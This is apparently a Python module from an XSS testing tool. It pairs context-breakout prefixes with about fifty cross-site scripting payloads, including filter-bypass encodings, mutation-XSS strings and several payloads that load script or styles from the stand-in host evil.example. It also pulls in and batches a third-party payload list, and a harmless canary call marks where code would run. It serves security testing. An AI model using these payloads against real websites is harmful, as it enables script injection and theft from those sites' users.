"""Words that try to become a script: our own list, and that of a package (brs-kb, MIT), which is not copied here."""

from brs_kb.payloads import get_all_payloads

CANARY = "canary(1)"
_OUT = (
    "",
    '"',
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "</dd></dl>",
    "</option></select>",
    "&quot;&gt;",
)
"""What would end the place that the words are in."""
_IN = (
    f"<script>{CANARY}</script>",
    f"<ScRiPt >{CANARY}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={CANARY}>",
    f"<svg onload={CANARY}>",
    f"<svg><script>{CANARY}</script></svg>",
    f"<svg><animate onbegin={CANARY} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{CANARY}</script>'></iframe>",
    f'<iframe src="javascript:parent.{CANARY}"></iframe>',
    f"<details open ontoggle={CANARY}>",
    f"<body onload={CANARY}>",
    f"<input autofocus onfocus={CANARY}>",
    f' autofocus onfocus={CANARY} x="',
    f'" autofocus onfocus={CANARY} x="',
    f"<video><source onerror={CANARY}></video>",
    f"<audio src=x onerror={CANARY}>",
    f"<marquee onstart={CANARY}>",
    f'<a href="javascript:{CANARY}" autofocus>x</a>',
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<object data=//evil.example/x></object>",
    f'<form action="javascript:{CANARY}"><button autofocus>x</button></form>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={CANARY}>",
    f'<noscript><p title="</noscript><img src=x onerror={CANARY}>">',
    f"<template><script>{CANARY}</script></template>",
    f"<custom-element onfocus={CANARY} tabindex=1 autofocus>",
    "<portal src=//evil.example/></portal>",
    f"{{{{constructor.constructor('{CANARY}')()}}}}",
)
_OTHER = (
    f"javascript:{CANARY}",
    f"JaVaScRiPt:{CANARY}",
    f"java\tscript:{CANARY}",
    f"data:text/html,<script>{CANARY}</script>",
    f"%3Cscript%3E{CANARY}%3C/script%3E",
    f"&lt;script&gt;{CANARY}&lt;/script&gt;",
    f"\\u003cscript\\u003e{CANARY}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{CANARY}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{CANARY}+ADw-/script+AD4-",
    f"<scr\x00ipt>{CANARY}</scr\x00ipt>",
    f"<scr<script>ipt>{CANARY}</scr</script>ipt>",
    f"';{CANARY};//",
    f"\\';{CANARY};//",
    f"`-{CANARY}-`",
    f"${{{CANARY}}}",
    f"[x](javascript:{CANARY})",
    f'![x](x"onerror="{CANARY})',
    f'<!--<img src="--><img src=x onerror={CANARY}//">',
    f"<![CDATA[<img src=x onerror={CANARY}>]]>",
    f"*/--></script></style></title></textarea></option>'\"`><svg/onload={CANARY}//<img src=x onerror={CANARY}>/*",
)


def own_payloads() -> list[str]:
    """Each way out with each way in."""
    return [*(f"{out}{inside}" for out in _OUT for inside in _IN), *_OTHER]


def package_payloads() -> list[str]:
    """Those of the package, in an order of their own."""
    written = {str(getattr(entry, "payload", entry)) for entry in get_all_payloads().values()}
    return sorted(text for text in written if text.strip())


def lumps(payloads: list[str], most: int) -> list[list[str]]:
    """Payloads that fit into one box together, a line for each; whoever is longer than a box stays out."""
    boxes: list[list[str]] = [[]]
    for payload in payloads:
        if len(payload) > most:
            continue
        if sum(len(each) + 2 for each in boxes[-1]) + len(payload) > most:
            boxes.append([])
        boxes[-1].append(payload)
    return boxes
